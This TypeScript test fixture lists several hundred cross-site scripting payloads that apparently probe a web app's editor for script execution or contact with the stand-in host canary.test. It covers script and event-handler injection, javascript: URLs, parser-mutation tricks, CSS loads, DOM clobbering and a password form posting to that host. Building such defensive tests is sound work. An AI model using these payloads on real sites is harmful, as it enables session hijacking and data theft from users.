/** The host that no page of the app may ask. */
const CANARY_HOST = "canary.test";

/** A text that would run a script, were it taken for markup, an address, a style or a script. */
export interface Payload {
  /** Given to the canary when it runs: `__xss(id)`. */
  id: number;
  text: string;
  /** Swallows what follows: it stands last wherever several stand together. */
  isOpen: boolean;
}

// In all of them RUN stands for the call of the canary, FOREIGN for an address on the canary's host.
const CLOSED: readonly string[] = [
  // Scripts
  "<script>RUN</script>",
  "<ScRiPt>RUN</sCrIpT >",
  '<script src="FOREIGN.js"></script>',
  "<script src=data:text/javascript,RUN></script>",
  '<script type="module">RUN</script>',
  "<script\t>RUN</script\n>",
  "<script/x>RUN</script/x>",
  "<script><!--\nRUN//--></script>",
  "<scr<script>ipt>RUN</scr</script>ipt>",
  "<<script>RUN//<</script>",
  "<script>/*</script><script>*/RUN</script>",
  "<svg><script>RUN</script></svg>",
  "<svg><script href=data:,RUN /></svg>",
  "<svg><script>&#95;&#95;xss(0);RUN</script></svg>",
  "<math><script>RUN</script></math>",
  "<div><script>RUN</script>words</div>",
  // Event handlers
  "<img src=x onerror=RUN>",
  "<img src=x onerror=RUN//",
  '<img src="x" onerror="RUN" />',
  "<img/src=x/onerror=RUN>",
  "<img\nsrc=x\nonerror\n=\nRUN>",
  "<img\fsrc=x\fonerror=RUN>",
  "<img src=x oNeRrOr=RUN>",
  "<img src=x onerror=`RUN`>",
  "<img src='x'onerror='RUN'>",
  "<img src=x onerror=&#95;&#95;xss(1);RUN>",
  "<img src=x:x onerror=RUN>",
  "<img src onerror=RUN>",
  "<img srcset=x onerror=RUN>",
  "<image src=x onerror=RUN>",
  "<img alt='<x' src=x onerror=RUN>",
  "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload=RUN>",
  "<svg onload=RUN>",
  "<svg/onload=RUN>",
  "<svg><svg onload=RUN></svg></svg>",
  "<svg><g onload=RUN></g></svg>",
  "<body onload=RUN>",
  "<body onpageshow=RUN>",
  "<html onmouseover=RUN>",
  "<details open ontoggle=RUN><summary>x</summary></details>",
  "<video src=x onerror=RUN></video>",
  "<video><source onerror=RUN></video>",
  "<audio src=x onerror=RUN></audio>",
  "<input autofocus onfocus=RUN>",
  "<select autofocus onfocus=RUN></select>",
  "<button autofocus onfocus=RUN>x</button>",
  "<p tabindex=1 autofocus onfocus=RUN>x</p>",
  "<p contenteditable autofocus onfocus=RUN>x</p>",
  "<marquee onstart=RUN>x</marquee>",
  "<p onmouseover=RUN onclick=RUN onpointerenter=RUN>x</p>",
  "<strong onclick=RUN>x</strong>",
  "<mark data-color=green onmouseenter=RUN>x</mark>",
  "<p style='animation:1ms spin' onanimationstart=RUN onanimationend=RUN>x</p>",
  "<p style=transition:all onTransitionEnd=RUN>x</p>",
  "<xss onbeforetoggle=RUN popover id=x>x</xss><button popovertarget=x>y</button>",
  "<custom-element autofocus tabindex=1 onfocusin=RUN>x</custom-element>",
  "<link rel=stylesheet href=data:text/css,x onload=RUN>",
  "<style onload=RUN></style>",
  "<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>",
  // Frames, plug-ins, documents
  "<iframe src=javascript:RUN></iframe>",
  "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
  "<iframe srcdoc=&lt;script&gt;parent.RUN&lt;/script&gt;></iframe>",
  "<iframe src='data:text/html,<script>RUN</script>'></iframe>",
  "<iframe src=FOREIGN></iframe>",
  "<iframe onload=RUN></iframe>",
  "<object data=javascript:RUN></object>",
  "<object data='data:text/html,<script>RUN</script>' type=text/html></object>",
  "<object data=FOREIGN><param name=movie value=FOREIGN></object>",
  "<embed src=javascript:RUN>",
  '<embed src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>\'>',
  "<frameset onload=RUN><frame src=javascript:RUN></frameset>",
  "<portal src=FOREIGN></portal>",
  "<applet code=FOREIGN></applet>",
  // Forms
  "<form action=javascript:RUN><input type=submit></form>",
  "<form><button formaction=javascript:RUN>x</button></form>",
  "<form action=FOREIGN id=f><input name=password></form><button form=f>x</button>",
  "<isindex type=image src=1 onerror=RUN>",
  "<input type=image src=FOREIGN onerror=RUN>",
  // Of the head
  "<meta http-equiv=refresh content='0;url=FOREIGN'>",
  "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
  "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
  "<meta name=referrer content=unsafe-url>",
  "<base href=FOREIGN/>",
  "<base target=_top href=javascript:RUN//>",
  "<link rel=stylesheet href=FOREIGN.css>",
  "<link rel=prefetch href=FOREIGN><link rel=preload as=image href=FOREIGN>",
  "<link rel=import href=FOREIGN><link rel=manifest href=FOREIGN>",
  // Styles
  "<style>@import 'FOREIGN.css';</style>",
  "<style>*{background:url(FOREIGN)}</style>",
  "<style><img src=x onerror=RUN></style>",
  "<style></style><img src=x onerror=RUN></style>",
  "<p style='background:url(FOREIGN)'>x</p>",
  "<p style='background:url(&quot;FOREIGN&quot;)'>x</p>",
  "<p style='width:expression(RUN)'>x</p>",
  "<p style='-moz-binding:url(FOREIGN#x)'>x</p>",
  "<p style='behavior:url(FOREIGN)'>x</p>",
  "<p style='background-image:url(javascript:RUN)'>x</p>",
  "<p style='back\\67 round:u\\72l(FOREIGN)'>x</p>",
  "<p style='position:fixed;inset:0;z-index:99999'>x</p>",
  "<p class='fixed inset-0 z-60' id=main>x</p>",
  "<mark data-color='red;background:url(FOREIGN)'>x</mark>",
  "<mark data-color='#fff\" onmouseover=\"RUN'>x</mark>",
  "<mark data-color='var(--x,url(FOREIGN))'>x</mark>",
  "<mark style='background-color:url(FOREIGN)' data-color=green>x</mark>",
  "<table background=FOREIGN><tr><td background=FOREIGN>x</td></tr></table>",
  "<font color=red face='x' size=7 style='list-style:url(FOREIGN)'>x</font>",
  // Addresses
  "<a href=javascript:RUN>x</a>",
  "<a href='JaVaScRiPt:RUN'>x</a>",
  "<a href=' \n javascript:RUN'>x</a>",
  "<a href='java\tscript:RUN'>x</a>",
  "<a href='java&Tab;script:RUN'>x</a>",
  "<a href='java&NewLine;script&colon;RUN'>x</a>",
  "<a href='&#106;&#97;vascript:RUN'>x</a>",
  "<a href='&#x6A;avascript&#x3A;RUN'>x</a>",
  "<a href='&#0000106avascript:RUN'>x</a>",
  "<a href='\u0001javascript:RUN'>x</a>",
  "<a href='\u00a0javascript:RUN'>x</a>",
  "<a href='javascript\u0000:RUN'>x</a>",
  "<a href='javascript://canary.test/%0aRUN'>x</a>",
  "<a href='javascript:&#47;&#47;%0aRUN'>x</a>",
  "<a href='data:text/html,<script>RUN</script>'>x</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='blob:null/x' ping=FOREIGN>x</a>",
  "<a href='view-source:javascript:RUN'>x</a>",
  "<a href='//canary.test/x'>x</a>",
  "<a href='\\\\canary.test\\x' target=_self>x</a>",
  "<a href='http:javascript:RUN'>x</a>",
  '<a href="https://example.org/&quot; onmouseover=&quot;RUN">x</a>',
  "<a href=mailto:x@example.org?subject=<script>RUN</script>>x</a>",
  "<a href=x onclick=RUN xlink:href=javascript:RUN>x</a>",
  "<area shape=default href=javascript:RUN>",
  "<img src=javascript:RUN>",
  "<img src=FOREIGN>",
  "<img src=//canary.test/x>",
  "<img srcset='FOREIGN 1x, FOREIGN 2x' sizes=1px>",
  "<picture><source srcset=FOREIGN><img src=x></picture>",
  "<video poster=FOREIGN src=FOREIGN autoplay></video>",
  "<img lowsrc=FOREIGN dynsrc=javascript:RUN>",
  "<blockquote cite=javascript:RUN>x</blockquote>",
  // SVG
  "<svg><a href=javascript:RUN><text y=20>x</text></a></svg>",
  "<svg><a xlink:href=javascript:RUN><rect width=9 height=9 /></a></svg>",
  "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
  "<svg><animate attributeName=href values=javascript:RUN /><a id=x><text>x</text></a></svg>",
  "<svg><set attributeName=onmouseover to=RUN /></svg>",
  "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=RUN /></svg>#x\" /></svg>",
  "<svg><use href=FOREIGN#x /></svg>",
  "<svg><image href=x onerror=RUN /><image href=FOREIGN /></svg>",
  "<svg><foreignObject><iframe src=javascript:RUN></iframe></foreignObject></svg>",
  "<svg><style>@import 'FOREIGN.css'</style></svg>",
  "<svg><desc><img src=x onerror=RUN></desc></svg>",
  "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>RUN</handler></svg>",
  // Mutations between two parsings
  "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
  "<template><img src=x onerror=RUN></template>",
  "<template shadowrootmode=open><img src=x onerror=RUN></template>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=RUN&gt;'>",
  "<math><mtext><mglyph><style></math><img src=x onerror=RUN></style>",
  "<svg></p><style><a id='</style><img src=x onerror=RUN>'></style></svg>",
  "<svg><p><style><g title='</style><img src=x onerror=RUN>'></style></p></svg>",
  "<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>",
  "<math><mi xlink:href=javascript:RUN>x</mi></math>",
  "<math href=javascript:RUN>x</math>",
  "<form><div></form><form><img src=x onerror=RUN></form></div>",
  "<form id=x></form><table><form><input name=attributes></form></table>",
  "<table><td><svg><title><img src=x onerror=RUN></title></svg></td></table>",
  "<svg><title><style><img src=x onerror=RUN></style></title></svg>",
  "<select><style></select><img src=x onerror=RUN></style></select>",
  "<noembed><img title='</noembed><img src=x onerror=RUN>'></noembed>",
  "<noframes><p title='</noframes><img src=x onerror=RUN>'></noframes>",
  "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
  "<iframe><p title='</iframe><img src=x onerror=RUN>'></iframe>",
  "<title><p title='</title><img src=x onerror=RUN>'></title>",
  "<textarea><p title='</textarea><img src=x onerror=RUN>'></textarea>",
  "<!--><img src=x onerror=RUN>-->",
  "<!---><img src=x onerror=RUN>-->",
  "<!-- --!><img src=x onerror=RUN> -->",
  "<!--[if gte IE 4]><script>RUN</script><![endif]-->",
  "<![CDATA[><img src=x onerror=RUN>]]>",
  "<svg><![CDATA[><img src=x onerror=RUN>]]></svg>",
  "<?xml version=1.0?><img src=x onerror=RUN>?>",
  "<!x '><img src=x onerror=RUN>'>",
  "</p <img src=x onerror=RUN>",
  "<p/title='><img src=x onerror=RUN>'>x</p>",
  "<p a='`' b='`><img src=x onerror=RUN>'>x</p>",
  "&lt;img src=x onerror=RUN&gt;",
  "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
  "&#60;script&#62;RUN&#60;/script&#62;",
  // Out of an attribute, a script or a text
  '"><script>RUN</script>',
  "'><img src=x onerror=RUN>",
  '" onmouseover="RUN" autofocus onfocus="RUN" x="',
  "' onerror='RUN' x='",
  "` onmouseover=`RUN",
  "</script><script>RUN</script>",
  "</script><img src=x onerror=RUN>",
  "</title><script>RUN</script>",
  "</textarea><script>RUN</script>",
  "</style><script>RUN</script>",
  "</noscript><script>RUN</script>",
  "--><script>RUN</script><!-- -->",
  "]]><script>RUN</script>",
  '";RUN;//',
  "';RUN;//",
  "\\';RUN;//",
  '\\"});RUN;//',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to stand in the page as it is.
  "${RUN}",
  "`-RUN-`",
  "{{constructor.constructor('RUN')()}}",
  "<%= RUN %>",
  "\u2028RUN\u2029",
  "javascript:RUN",
  "data:text/html,<script>RUN</script>",
  "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
  "%3Cscript%3ERUN%3C/script%3E",
  '{"__proto__":{"innerHTML":"<img src=x onerror=RUN>"}}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}',
  "[x](javascript:RUN) ![x](FOREIGN)",
  '![x](x"onerror="RUN)',
  "<javascript:RUN>",
  // Unicode
  "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
  "<\u0000script>RUN</\u0000script>",
  "<scr\u0000ipt>RUN</scr\u0000ipt>",
  "\ufeff<script>RUN</script>",
  "<\u017fcript>RUN</\u017fcript>",
  "<img src=x on\u0435rror=RUN onerror\u00a0=RUN onerror=RUN>",
  "\u202e<script>RUN</script>",
  "\ud800<img src=x onerror=RUN>",
  "+ADw-script+AD4-RUN+ADw-/script+AD4-",
  "\u001b$B<script>RUN</script>\u001b(B",
  // Clobbering
  "<a id=__remixContext></a><a id=__remixContext name=state href=FOREIGN>x</a>",
  "<form id=document><input name=cookie></form><img name=currentScript src=x>",
  "<form name=body><input name=attributes><input name=nodeName></form>",
  "<img id=toast name=__webpack_nonce__ src=FOREIGN>",
  // What the editor itself would look at
  "<div data-ai='prayer\" onclick=\"RUN'>x</div>",
  "<div data-ai=prayer><script>RUN</script><img src=x onerror=RUN></div>",
  '<p data-pm-slice=\'0 0 ["aiBlock",{"kind":"x"}]\'><img src=x onerror=RUN></p>',
  "<div data-pm-slice='1 1 []'><a href=javascript:RUN>x</a></div>",
  "<code class='language-x\" onmouseover=\"RUN'>x</code>",
  "<pre><code class='language-<img/src=x/onerror=RUN>'><img src=x onerror=RUN></code></pre>",
  "<pre class='language-js fixed'>x<script>RUN</script></pre>",
  "<a class='fixed inset-0' href=https://example.org/ target=_top rel=opener title='\"onclick=RUN'>x</a>",
  "<ol start='1\" onclick=\"RUN' type='\"onclick=RUN'><li>x</li></ol>",
  "<li data-type=taskItem data-checked='\"onclick=RUN'>x</li>",
  "<img src='/api/images/x\" onerror=\"RUN'>",
  "<img src='/api/images/../../api/logout'>",
  "<h1 onclick=RUN id=x>x</h1><hr onclick=RUN><br onclick=RUN>",
];

const OPEN: readonly string[] = [
  "<plaintext><script>RUN</script>",
  "<!--<img src='--><img src=x onerror=RUN>//",
  "<!-- <script>RUN</script>",
  "<script>RUN",
  "<script>RUN//",
  "<style><!--</style><script>RUN",
  "<textarea><script>RUN</script>",
  "<title><img src=x onerror=RUN>",
  "<xmp><img src=x onerror=RUN>",
  "<noscript><img src=x onerror=RUN>",
  "<iframe src=javascript:RUN <",
  "<img src='x' onerror='RUN",
  '<a href="javascript:RUN',
  "<img src='FOREIGN?",
  "<svg><style><img src=x onerror=RUN>",
  "<svg><desc><noscript></desc><script>RUN",
  "<math><mtext><option><style><img title='</style><img src=x onerror=RUN>",
  "<form action=FOREIGN><textarea name=x>",
  "<select><option><button><script>RUN",
  "<body onload=RUN <p",
  "<svg onload=RUN ",
  "<template><template><script>RUN",
];

/** All payloads, each once, with ids of their own. */
export const PAYLOADS: readonly Payload[] = [
  ...CLOSED.map((text) => ({ text, isOpen: false })),
  ...OPEN.map((text) => ({ text, isOpen: true })),
].map(({ text, isOpen }, id) => ({
  id,
  isOpen,
  text: text.replaceAll("RUN", `__xss(${id})`).replaceAll("FOREIGN", `https://${CANARY_HOST}/${id}`),
}));

/**
 * The payloads joined to texts of at most `limit` characters, so that fewer pages have to be opened; those that swallow
 * what follows come last. One that is too long on its own is cut.
 */
export function packPayloads(limit: number): string[] {
  const packs: string[] = [];
  let pack = "";
  for (const { text } of PAYLOADS) {
    const part = text.slice(0, limit);
    if (pack && pack.length + 1 + part.length > limit) {
      packs.push(pack);
      pack = "";
    }
    pack += (pack && " ") + part;
  }
  return [...packs, pack];
}

/**
 * The shortest payloads that `fits` accepts, `count` of them, joined to texts of at most `limit` characters: for places
 * that take no more, and for those where each text takes a screen or a call of its own.
 */
export function packShort(limit: number, count: number, fits: (text: string) => boolean): string[] {
  const short = PAYLOADS.map(({ text }) => text.trim())
    .filter((text) => text.length <= limit && fits(text))
    .sort((one, other) => one.length - other.length);
  if (short.length < count) throw new Error(`Only ${short.length} payloads are as short as ${limit}`);
  const packs: string[] = [];
  for (const text of short.slice(0, count)) {
    const last = packs.at(-1);
    if (last !== undefined && last.length + 1 + text.length <= limit)
      packs[packs.length - 1] = `${last} ${text}`;
    else packs.push(text);
  }
  return packs;
}

/** A text as the value of an attribute in double quotes. */
export function escapeAttribute(text: string): string {
  return text.replaceAll("&", "&amp;").replaceAll('"', "&quot;").replaceAll("<", "&lt;");
}
